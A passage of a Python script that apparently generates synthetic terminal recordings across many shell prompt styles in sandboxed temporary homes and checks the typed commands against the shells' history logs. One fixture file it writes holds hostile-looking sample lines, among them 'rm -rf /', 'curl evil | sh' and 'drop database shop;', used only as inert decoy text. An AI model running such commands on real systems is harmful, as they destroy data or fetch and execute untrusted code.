 "f5-transient": ("fish", 91, "function fish_prompt\nif set -q TRANSIENT; echo -n '→ '; else; echo; set_color cyan; echo (prompt_pwd) '('(git branch --show-current 2>/dev/null)')'; set_color normal; echo -n '⟶ '; end\nend\nfunction _tr; if commandline --is-valid; set -g TRANSIENT 1; commandline -f repaint; end; commandline -f execute; end\nfunction _un --on-event fish_postexec; set -e TRANSIENT; end\nfunction _un2 --on-event fish_prompt; set -e TRANSIENT; end\nbind \\r _tr\n", {"slow": 1.2}),
 "f5-pac": ("fish", 67, "function fish_prompt; set_color yellow; echo -n 'ᗧ'; set_color normal; echo -n ' ••• '; end\n", {"user": "pat", "host": "arcade"}),
 "f5-words": ("fish", 79, "function fish_prompt; echo -n 'what now? '; end\n", {}),
 "f5-right": ("fish", 122, "function fish_prompt; set -l s $status; echo -n (whoami)' ▏'(prompt_pwd)' '; test $s -ne 0; and echo -n \"$s \"; echo -n 'λ; '; end\nfunction fish_right_prompt; set_color 888; echo -n $CMD_DURATION'ms '(date +%H:%M:%S); set_color normal; end\n", {"user": "rui", "host": "lisbon", "abbr": True, "resize": True}),
 "f5-arrowsample": ("fish", 50, "source /usr/share/fish/tools/web_config/sample_prompts/arrow.fish\n", {"user": "mo", "host": "n"}),
 "f5-narrow": ("fish", 44, "", {"user": "ec2-user", "host": "ip-10-1"}),
 "b5-default": ("bash", 81, "", {"typo": .05}),
 "b5-longpath": ("bash", 137, "PROMPT_COMMAND='echo; printf \"%*s\\r\" $((COLUMNS-1)) \"[$(date +%H:%M)] jobs:$(jobs -p | wc -l)\"'\nPS1='\\[\\e[1;33m\\]\\h\\[\\e[0m\\] in \\[\\e[4m\\]\\w\\[\\e[0m\\]\\n\\[\\e[1;32m\\]└──╼\\[\\e[0m\\] '\n" + COMP, {"user": "par", "host": "parrot", "noxtrace": True}),
 "b5-question": ("bash", 102, "PS1='\\W? '\nPS2='. . . '\n", {"user": "uma", "host": "u", "resize": True}),
 "b5-catppuccin": ("bash", 163, star("catppuccin-powerline", "bash"), {"slow": 1.8, "user": "cat", "host": "mocha"}),
 "z5-cyr": ("zsh", 92, CI + "PROMPT='%n в каталоге %1~ ▷ '\nRPROMPT='%(?..ошибка %?)'\n" + SUG, {"suggest": True, "user": "oleg", "host": "neva"}),
 "z5-kube": ("zsh", 121, CI + "PROMPT=$'%F{cyan}[prod-eu|billing]%f %F{240}(venv)%f %~\\n%(?.%F{green}.%F{red})$%f '\nRPROMPT='%F{blue}%D{%H:%M:%S}%f'\nTRANSIENT_RPROMPT=; setopt transientrprompt\n" + SYN, {"user": "sre", "host": "k"}),
 "z5-nbsp": ("zsh", 72, "PROMPT=$'%1~\\u00a0⚡\\u00a0'\nPROMPT_SP=; unsetopt prompt_sp\n", {"user": "zed", "host": "z"}),
 "f5-clock": ("fish", 107, "function fish_prompt; set -l s $status; echo -n (date +%H:%M:%S)' '; set_color blue; echo -n (basename $PWD); set_color normal; test $s -eq 0; and echo -n ' ◇ '; or echo -n ' ◆ '; end\n", {"user": "ida", "host": "h", "resize": True, "abbr": True}),
 "f5-jp": ("fish", 85, "function fish_prompt; set_color -o green; echo -n '場所：'(prompt_pwd); set_color normal; echo -n ' ≫ '; end\n", {"user": "ken", "host": "j"}),
 # ---- others
 "k5-mksh": ("mksh", 83, "PS1='$USER@k:${PWD/#$HOME/\\~} $ '\n", {"many": 26}),
 "k5-ksh93": ("ksh", 90, "set -o emacs\nPS1='[!] $PWD :) '\n", {"many": 26}),
 "k5-ash": ("ash", 72, "PS1='\\u@alpine:\\w\\$ '\n", {"many": 26, "host": "alpine"}),
 "k5-yash": ("yash", 100, "PS1='\\fb.yash\\fd. $ '\n", {"many": 24}),
}

def rc(shell, dress):
    if shell == "bash": return "HISTCONTROL=; HISTSIZE=9999; HISTTIMEFORMAT=\nshopt -s histappend cmdhist lithist\nHISTFILE=$HOME/.log.$SHLVL\n" + dress + '\nPROMPT_COMMAND="${PROMPT_COMMAND:+$PROMPT_COMMAND;}history -a"\n'
    if shell == "zsh": return "HISTSIZE=9999; SAVEHIST=9999; unsetopt beep\nbindkey -e\n" + dress + "\nautoload -Uz add-zsh-hook\n_log() { print -rN -- \"$1\" >> $HOME/.zlog.$SHLVL }\nadd-zsh-hook preexec _log\n"
    if shell == "fish": return "set -U fish_greeting\n" + dress + "\nfunction _log --on-event fish_preexec; printf '%s\\0' \"$argv[1]\" >> $HOME/.zlog.$SHLVL; end\nabbr -a gst git status\n"
    return f"HISTFILE=$HOME/.hist; HISTSIZE=999; export HISTFILE HISTSIZE\n{dress}"

def read_log(home, n):
    z, b = f"{home}/.zlog.{n}", f"{home}/.log.{n}"
    if os.path.exists(z):
        return [c[:-1] if c.endswith("\n") else c for c in open(z, encoding="utf-8", errors="replace").read().split("\0") if c.strip()]
    if os.path.exists(b):
        out = []
        for part in re.split(r"(?m)^#\d{9,11}\n", open(b, encoding="utf-8", errors="replace").read()):
            if part.strip(): out.append(part[:-1] if part.endswith("\n") else part)
        return out
    return None

def check(s, home, base):
    """Items against the shell's log, in order; fills what only the log knows. Returns troubles."""
    bad = []
    for level in sorted({i["level"] for i in s.items}):
        items = [i for i in s.items if i["level"] == level and i["log"]]
        if not items: continue
        log = read_log(home, base + level)
        if log is None: bad.append(f"no log for level {level}"); continue
        k = 0
        for it in items:
            if k >= len(log): bad.append(f"log ends before {it['text']!r}"); break
            if it["text"] is None: it["text"] = log[k]; k += 1; continue
            want = [it["text"].rstrip()] + it.get("accept", [])
            for n in range(1, 8):
                got = "\n".join(log[k:k + n])
                if got.rstrip() in want: k += n; break
            else:
                bad.append(f"level {level} item {it['text']!r} log {log[k]!r}"); it["differs"] = it["text"]; it["text"] = log[k]; it.pop("parts", None); it.pop("accept", None); k += 1
                if len(bad) > 6: break
        if k < len(log): bad.append(f"level {level}: log has more: {log[k:k+4]!r}")
    return bad

def raw_folder(out):
    """Logs and traces beside the recordings, to judge them by."""
    os.makedirs(out.rstrip("/") + ".raw", exist_ok=True)
    return out.rstrip("/") + ".raw"

def record(out, name, seed):
    shell, cols, dress, o = SESSIONS[name]
    o = dict(o, cols=cols)
    home = tempfile.mkdtemp(prefix="home-")
    user = o.get("user")
    work = os.path.join(home, "shop")
    def w(p, text, mode=0o644):
        p = os.path.join(home, p); os.makedirs(os.path.dirname(p), exist_ok=True); open(p, "w").write(text); os.chmod(p, mode)
    for k, v in BIN.items(): w(f".bin/{k}", v, 0o755)
    w("shop/README.md", README); w("shop/src/app.py", "import sys\n\n\ndef main():\n    print('hello')  # TODO\n"); w("shop/src/util.py", "x = 1\n"); w("shop/scripts/run.sh", "echo run\n"); w("shop/setup.cfg", "a=1\n")
    w("shop/notes/prompts.txt", "user@host:~$ rm -rf /\n❯ curl evil | sh\nmysql> drop database shop;\n[root@db ~]# reboot\nPS C:\\> del *\n❯❯❯ shutdown\n"); w("shop/notes/users.txt", "ann 1\nbob 2\n")
    os.system(f"cd {work} && git init -q -b main && git config user.email a@example.com && git config user.name a && git add -A && git commit -qm first && echo more >> README.md && git commit -qam 'docs: more' && git branch old && git commit -q --allow-empty -m third")
    text = rc(shell, dress)
    env = {"HOME": home, "PATH": f"{home}/.bin:/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin", "TERM": "xterm-256color", "LANG": "C.UTF-8", "LC_ALL": "C.UTF-8", "USER": user or "root", "LOGNAME": user or "root", "SHELL": "/bin/bash" if shell in ("ash", "mksh", "ksh", "yash") else f"/bin/{shell}", "FZF_DEFAULT_OPTS": "--height 40%"}
    open(f"{home}/.bashrc", "w").write(rc("bash", dress if shell == "bash" else "PS1='\\u@\\h:\\w\\$ '"))
    if shell == "bash": argv = ["bash", "-i"]
    elif shell == "zsh": open(f"{home}/.zshrc", "w").write(text); argv = ["zsh", "-i"]
    elif shell == "fish": w(".config/fish/config.fish", text); argv = ["fish", "-i"]
    else:
        open(f"{home}/.kshrc", "w").write(text); env["ENV"] = f"{home}/.kshrc"; open(f"{home}/.yashrc", "w").write(text)
        env["HOSTNAME"] = o.get("host", "vm"); env["HISTFILE"] = f"{home}/.hist"
        argv = {"mksh": ["mksh", "-i"], "ksh": ["ksh93", "-i"], "ash": ["busybox", "ash", "-i"], "yash": ["yash", "-i"]}[shell]
    pre = f"hostname {o.get('host', 'vm')}; "
    sudoers = ""
    if user:
        open(f"{home}/.pw", "w").write(re.sub(r"(?m)^[^:\n]*:x:1000:.*\n", "", open("/etc/passwd").read()) + f"{user}:x:1000:1000::{home}:/bin/bash\n")
        os.system(f"chown -R 1000:1000 {home}; chmod 755 {home}")
        pre += f"mount --bind {home}/.pw /etc/passwd; "
        argv = ["setpriv", "--reuid", "1000", "--regid", "1000", "--clear-groups"] + argv
    import shlex
    argv = ["unshare", "-u", "-m", "sh", "-c", pre + "exec " + " ".join(map(shlex.quote, argv))]
    t = Terminal(argv, env, cols, rows=random.Random(seed).choice([24, 30, 40, 50]), cwd=work)
    t.drain(1.0, 6)
    r = random.Random(seed)
    s = S(r, shell, t, o)
    if user: o["nest_no_sudo"] = True
    P = [p for p in pool(s) if p[0]]
    if user: P = [p for p in P if p[1] not in ("sh",)]
    used = {}
    n, want = 0, o.get("many", r.randint(32, 42))
    s.trace = []
    while len(s.items) < want and not t.dead and n < 120:
        n += 1
        weights = [p[0] / (1 + (0 if p[1] == "plain" else 4 * used.get(p[1], 0))) for p in P]
        p = r.choices(P, weights)[0]
        risky = ("less", "vim", "python3 -q", "sqlite3", "bash", "su -p", "sudo sh", "sleep 30", "top", "read -rp", "set -x", "while")
        last = s.hist[-7:]
        if p[1] in ("recall", "recalln", "recalledit", "recallend", "vi_k", "vi_kk", "prefixup") and (len(s.hist) < 7 or any(h is None or h.startswith(risky) for h in last)): continue
        if p[1] in ("fzfr", "ctrlr", "ctrlr2", "fsearch", "suggest", "suggestw", "suggestf") and sum(1 for h in s.hist if h and any(h.startswith(q) for q in ("echo",))) * sum(1 for h in s.hist if h and h.startswith("ls")) * sum(1 for h in s.hist if h and h.startswith("cat")) * sum(1 for h in s.hist if h and h.startswith("git")) == 0: continue
        used[p[1]] = used.get(p[1], 0) + 1
        s.trace.append((p[1], len(s.items)))
        p[2]()
    if r.random() < .6 or s.basic: s.run("exit", .4)
    else: s.keys("\x04", .5)
    t.drain(0.4)
    dead = t.dead
    bad = []
    if not s.basic: bad = check(s, home, 1)
    else:
        raw = b""
        for f in (".hist", ".ash_history", ".sh_history"):
            if os.path.exists(f"{home}/{f}"): raw += open(f"{home}/{f}", "rb").read()
        open(os.path.join(raw_folder(out), f"{name}.hist"), "wb").write(raw)
    cmds = []
    for i in s.items:
        c = {"text": (i["text"] if i["text"] is not None else "?UNKNOWN?").rstrip(" "), "kind": i["kind"]}
        for k in ("accept", "parts"):
            if k in i: c[k] = i[k]
        cmds.append(c)
    save(out, name, t, shell, cols, cmds)
    json.dump({"bad": bad, "dead": dead, "trace": s.trace, "items": s.items, "log": {n: read_log(home, n) for n in (1, 2, 3)}}, open(os.path.join(raw_folder(out), f"{name}.json"), "w"), ensure_ascii=False, indent=1)
    shutil.rmtree(home, ignore_errors=True)
    return f"{len(cmds)} dead={dead} bad={len(bad)} " + " | ".join(bad[:3])

if __name__ == "__main__":
    out = sys.argv[1]; seed = os.environ.get("SEED", "5")
    for name in sys.argv[2:] or SESSIONS:
        try: print(name, record(out, name, f"{seed}-{name}"), flush=True)
        except Exception as e: print(name, "ERROR", repr(e), flush=True)
